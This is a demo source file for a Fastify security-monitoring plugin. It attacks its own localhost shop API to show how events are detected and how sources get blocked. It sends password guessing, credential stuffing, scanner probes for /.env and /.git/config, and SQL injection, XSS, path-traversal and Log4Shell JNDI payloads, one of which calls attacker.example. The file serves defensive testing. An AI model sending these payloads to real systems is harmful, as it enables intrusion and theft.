// The shop under attack: a small Fastify API with @watchpost/fastify, attacked by its own client.
// Most events are recorded with no code at all (401/403 inference, 404 floods and scanner probes,
// malformed bodies, refused cross-origin requests, unexpected methods); the login route adds the
// ones only the app knows. demo.js runs this with the emulator's environment.
import watchpost from '@watchpost/fastify'
import Fastify from 'fastify'

const users = new Map([['alice', { password: 'correct horse battery staple', failures: 0, locked: false }]])
const MAX_FAILURES = 3

const app = Fastify()
await app.register(watchpost) // reads ./watchpost.config.yaml

app.post('/login', async (request, reply) => {
  const { username = '', password = '' } = request.body ?? {}
  const user = users.get(username)
  if (user === undefined) {
    request.watchpost.authn.loginFail({ userId: username, reason: 'unknown_user' })
    return reply.code(401).send({ error: 'invalid credentials' })
  }
  if (user.locked) {
    request.watchpost.authn.loginFail({ userId: username, reason: 'locked' })
    return reply.code(423).send({ error: 'locked' })
  }
  if (password !== user.password) {
    user.failures++
    request.watchpost.authn.loginFail({ userId: username, reason: 'bad_password' })
    if (user.failures === MAX_FAILURES) {
      user.locked = true
      request.watchpost.authn.loginLock({ userId: username, reason: 'maxretries' })
    }
    return reply.code(401).send({ error: 'invalid credentials' })
  }
  request.watchpost.setUser(username)
  if (user.failures > 0)
    request.watchpost.authn.loginSuccessAfterFail({ userId: username, retries: user.failures })
  else request.watchpost.authn.loginSuccess({ userId: username })
  user.failures = 0
  return { ok: true }
})
app.get('/admin/users', async (_request, reply) => reply.code(403).send({ error: 'forbidden' }))
app.get('/api/orders', async (request) => {
  request.watchpost.setUser('alice')
  request.watchpost.sensitive.read({ object: 'orders', records: 2 })
  return [{ id: 1 }, { id: 2 }]
})

await app.listen({ port: 0, host: '127.0.0.1' })
const base = `http://127.0.0.1:${app.server.address().port}`
const post = (path, body, headers = {}) =>
  fetch(base + path, { method: 'POST', headers: { 'content-type': 'application/json', ...headers }, body })
const step = async (title) => {
  await app.watchpost.flush() // only so the events print under their step; an app never needs this
  console.log(`\n— ${title} —`)
}

const alice = (password, headers) => post('/login', JSON.stringify({ username: 'alice', password }), headers)
await step(
  'credential guessing: three wrong passwords lock alice; her right one is refused until she is unlocked',
)
for (let i = 0; i < MAX_FAILURES; i++) await alice(`guess${i}`)
await alice('correct horse battery staple')
users.get('alice').locked = false // what an admin's unlock would do; the shop has no admin API
await alice('correct horse battery staple', {
  traceparent: '00-4bf92f3577b34da6a3ce929d0e0e4736-00f067aa0ba902b7-01',
})
await step('a scanner looks for secrets and admin consoles (404 flood, scanner paths)')
for (const path of ['/.env', '/.git/config', '/wp-admin/', '/backup.zip', '/phpmyadmin/', '/old-api'])
  await fetch(base + path)
await step('forced browsing, a body that is not JSON, a cross-origin read, an odd method')
await fetch(`${base}/admin/users?access_token=eyJhbGciOiJIUzI1NiJ9.secret`)
await post('/login', '{"username": "alice", ', { 'x-request-id': 'req-7f3a' })
await fetch(`${base}/api/orders`, { headers: { origin: 'https://evil.example' } })
await fetch(`${base}/api/orders`, { method: 'PROPFIND' })
await step('injection probes: SQL in a query, script in a body, a path climbing out, Log4Shell, sqlmap')
await fetch(
  `${base}/api/orders?sort=${encodeURIComponent("id' UNION SELECT username, password FROM users--")}`,
)
await post('/login', JSON.stringify({ username: '<script>alert(document.cookie)</script>', password: 'x' }))
await fetch(`${base}/api/orders?export=${encodeURIComponent('../../../../etc/passwd')}`)
await fetch(`${base}/api/orders`, { headers: { 'x-forwarded-host': `\${jndi:ldap://attacker.example/a}` } })
await fetch(`${base}/api/orders?id=1`, {
  headers: { 'user-agent': 'sqlmap/1.8.4#stable (https://sqlmap.org)' },
})

await step('credential stuffing from 203.0.113.66: after ten accounts the rule blocks the source (429)')
const stuffer = { 'x-forwarded-for': '203.0.113.66' }
const answers = []
for (const name of [
  'bob',
  'carol',
  'dave',
  'erin',
  'frank',
  'grace',
  'heidi',
  'ivan',
  'judy',
  'mallory',
  'oscar',
  'peggy',
])
  answers.push(
    (await post('/login', JSON.stringify({ username: name, password: 'Winter2026!' }), stuffer)).status,
  )
console.log(`  answers: ${answers.join(' ')}`)

await app.close() // delivers what is queued: the console lines and the uploads to the Logs Ingestion API
const stats = app.watchpost.stats()
const sentinel = app.watchpost.health().sinks.find((sink) => sink.sink.startsWith('sentinel:'))
const dropped = [...Object.values(stats.dropped), ...Object.values(sentinel?.dropped ?? {})].reduce(
  (a, b) => a + b,
  0,
)
const rules = app.watchpost.rules.stats()
const blocks = await app.watchpost.rules.list()
console.log(
  `\nRules: ${rules.firings} fired; ${blocks.length} source(s) blocked (${blocks.map((b) => `${b.value} by ${b.rule}`).join(', ')}), ${rules.blockedRequests} request(s) refused.`,
)
console.log(
  `${stats.emitted} events recorded; ${sentinel?.sent ?? 0} delivered to the Logs Ingestion API, ` +
    `${sentinel?.queued ?? 0} left in the spool (dropped: ${dropped}).`,
)
